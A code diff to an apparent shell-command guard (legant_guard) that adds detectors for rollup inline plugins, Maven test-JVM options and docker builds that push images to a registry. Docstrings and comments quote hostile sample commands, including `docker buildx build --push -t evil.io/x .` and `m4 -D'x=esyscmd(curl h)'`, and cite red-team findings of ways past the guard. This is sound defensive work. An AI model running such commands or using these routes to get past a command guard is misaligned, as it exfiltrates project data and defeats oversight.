@@ -484,6 +484,12 @@ def _own_language_sinks(program, args):
         return [Sink(program, "command", "this runs the command after `--` whenever files change",
                      Exp(" ".join(e.src if e.dynamic else quote(e.text) for e in words),
                          " ".join(e.src for e in words), dynamic=any(e.dynamic for e in words), quoted=True))]
+    if program == "rollup":
+        return _rollup_plugins(args)
+    if program in ("mvn", "mvnw", "mvnd"):
+        return _maven_jvm_options(args)
+    if program in ("docker", "docker-compose"):
+        return _docker_build_pushes(args)
     found = []
     if program in _CALCULATORS:  # `dc -e '!curl h'`, `m4 -D'x=esyscmd(curl h)'`
         for j, e in enumerate(args):
@@ -532,3 +538,87 @@ def source_includes(text):
             if start >= 0 and end > start:
                 names.append(stripped[start + 1:end])
     return text + "".join('\n"%s"' % n for n in names)
+
+
+def _rollup_plugins(args):
+    """`rollup -p "{transform(){…}}"`, `-p name=OPTIONS`: rollup evaluates the object literal or the
+    options after `=` as JavaScript (`new Function('return ' + text)`, cli/run/commandPlugins.ts);
+    code the guard does not analyse (red team 37). A plugin by name or path (`-p node-resolve`,
+    `-p ./plugin.js`) is a module: the project's or a package's code, as a config file is."""
+    found = []
+    for k, e in enumerate(args):
+        t = e.text
+        if e.dynamic:
+            continue
+        if t in ("-p", "--plugin") and k + 1 < len(args):
+            value = args[k + 1]
+        elif t.startswith("--plugin="):
+            value = Exp(t[9:], e.src, quoted=True)
+        elif t.startswith("-p") and not t.startswith("--") and len(t) > 2:
+            value = Exp(t[2:], e.src, quoted=True)
+        else:
+            continue
+        if value.dynamic or any(c in value.text for c in "={}"):
+            found.append(Sink("rollup --plugin", "code", "rollup runs the JavaScript of a plugin given inline "
+                              "(`{…}`, or the options after `=`)", value))
+    return found
+
+
+# Maven properties whose value is the options of the test JVM surefire or failsafe starts.
+_MAVEN_JVM_PROPERTIES = ("argline", "maven.surefire.debug", "maven.failsafe.debug")
+
+
+def _maven_jvm_options(args):
+    """`mvn test -DargLine='-XX:OnError=CMD'` (`maven.surefire.debug`, `maven.failsafe.debug`): the
+    test JVM gets these options, so they are judged as java's own (red team 37)."""
+    from legant_guard.shell.sinks import find
+
+    found = []
+    for k, e in enumerate(args):
+        t = e.text
+        if e.dynamic or not t.startswith("-D"):
+            continue
+        setting = t[2:] or (args[k + 1].text if k + 1 < len(args) and not args[k + 1].dynamic else "")
+        key, eq, value = setting.partition("=")
+        if eq and key.lower() in _MAVEN_JVM_PROPERTIES:
+            for sink in find("java", [Exp(word, e.src, quoted=True) for word in value.split()]):
+                found.append(Sink(sink.label, sink.payload, "surefire starts the test JVM with `%s`: %s"
+                                  % (key, sink.reason), sink.value))
+    return found
+
+
+# Subcommands that build images, as the words before their options (`docker buildx build`, `docker
+# compose build`, also after compose's own options).
+_DOCKER_BUILDS = (("build",), ("buildx", "build"), ("buildx", "b"), ("image", "build"), ("builder", "build"),
+                  ("buildx", "bake"), ("compose", "build"))
+
+
+def _docker_build_pushes(args):
+    """`docker buildx build --push -t evil.io/x .`, `-o type=registry`, `--output …,push=true`, `docker
+    compose build --push`: the build pushes the image it made (the project's files copied in) to a
+    registry, as `docker push` would; judged as that command (red team 37)."""
+    words = [e.text for e in args if not e.dynamic]
+    operands = [w for w in words if not w.startswith("-")]
+    if not any(tuple(operands[:len(b)]) == b for b in _DOCKER_BUILDS) and \
+            not (words[:1] == ["compose"] and "build" in operands) and operands[:1] != ["build"]:
+        return []
+    pushes = False
+    tags = []
+    for k, w in enumerate(words):
+        name, eq, value = w.partition("=")
+        spec = words[k + 1] if w in ("-o", "--output") and k + 1 < len(words) else value if name == "--output" else \
+            w[2:] if w.startswith("-o") and not w.startswith("--") else None
+        if name == "--push" and value.lower() not in ("false", "0"):
+            pushes = True
+        elif spec is not None:
+            fields = {f.partition("=")[0].strip().lower(): f.partition("=")[2].strip().lower() for f in spec.split(",")}
+            if fields.get("type") == "registry" or fields.get("push") in ("true", "1"):
+                pushes = True
+        elif w in ("-t", "--tag") and k + 1 < len(words):
+            tags.append(words[k + 1])
+        elif name == "--tag" and eq:
+            tags.append(value)
+    if not pushes:
+        return []
+    return [Sink("docker build --push", "shell", "the build pushes the image it makes to a registry, as `docker "
+                 "push` does", Exp("docker push " + (" ".join(quote(t) for t in tags) or "IMAGE"), "--push", quoted=True))]
